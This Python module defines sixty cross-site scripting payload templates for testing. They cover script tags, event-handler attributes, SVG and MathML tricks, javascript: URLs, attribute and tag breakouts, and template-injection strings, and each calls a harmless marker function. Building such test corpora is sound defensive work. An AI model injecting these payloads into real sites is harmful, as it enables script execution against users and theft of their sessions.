"""Sixty texts that would run as a script where a page takes text for markup, an address or code.

Each calls `__ran(<its number>)`, which a page under attack defines before anything else runs. `{n}` is
its number. The last ones break out of whatever a page may put a text into.
"""

from __future__ import annotations

_CALL = "__ran({n})"

_TEMPLATES = (
    "<script>!</script>",
    "<SCRIPT>!</SCRIPT>",
    "<script >!</script >",
    "<scr<script>ipt>!</scr</script>ipt>",
    "<script src='data:text/javascript,!'></script>",
    "<script type=module>!</script>",
    "<img src=x onerror=!>",
    '<img src=x onerror="!">',
    "<IMG SRC=x OnErRoR=!>",
    "<img/src=x/onerror=!>",
    "<img src=x onerror=!//",
    "<image src=x onerror=!>",
    "<svg onload=!>",
    "<svg/onload=!>",
    "<svg><script>!</script></svg>",
    "<svg><animate onbegin=! attributeName=x dur=1s>",
    "<svg><set onbegin=! attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=!></style></svg>",
    "<svg><desc><img src=x onerror=!></desc></svg>",
    "<math><mtext><img src=x onerror=!></mtext></math>",
    "<body onload=!>",
    "<iframe onload=!></iframe>",
    "<iframe src='javascript:parent.!'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.!&lt;/script&gt;'></iframe>",
    "<object data='javascript:parent.!'></object>",
    "<embed src='javascript:parent.!'>",
    "<video><source onerror=!></video>",
    "<video src=x onerror=!></video>",
    "<audio src=x onerror=!></audio>",
    "<input autofocus onfocus=!>",
    "<textarea autofocus onfocus=!></textarea>",
    "<select autofocus onfocus=!></select>",
    "<button autofocus onfocus=!>x</button>",
    "<a autofocus href=# onfocus=!>x</a>",
    "<details open ontoggle=!>x</details>",
    "<div style='animation-name:x' onanimationstart=!>",
    "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=!>x</p>",
    "<link rel=stylesheet href=x onerror=!>",
    "<style onload=!></style>",
    "<meta http-equiv=refresh content='0;url=javascript:!'>",
    "<base href='javascript:!//'>",
    "<form><button formaction='javascript:!' autofocus onfocus=!>x</button></form>",
    "<marquee onstart=!>x</marquee>",
    "<template><img src=x onerror=!></template><img src=x onerror=!>",
    "<noscript><p title='</noscript><img src=x onerror=!>'>",
    "<!--><img src=x onerror=!>-->",
    "<![CDATA[><img src=x onerror=!>]]>",
    "<?x ><img src=x onerror=!>",
    "</title><img src=x onerror=!>",
    "</textarea><img src=x onerror=!>",
    "</script><script>!</script>",
    '"><img src=x onerror=!>',
    "'><img src=x onerror=!>",
    '" autofocus onfocus=! x="',
    "javascript:!",
    "java\tscript:!",
    "data:text/html,<script>parent.!</script>",
    "{{constructor.constructor('!')()}}",
    "${!}",
    "'-!-'",
)

PAYLOADS = tuple(template.replace("!", _CALL.replace("{n}", str(n))) for n, template in enumerate(_TEMPLATES))


def printable(text: str) -> str:
    """Return a text as a page shows it: a tab is a blank there."""
    return " ".join(text.split())
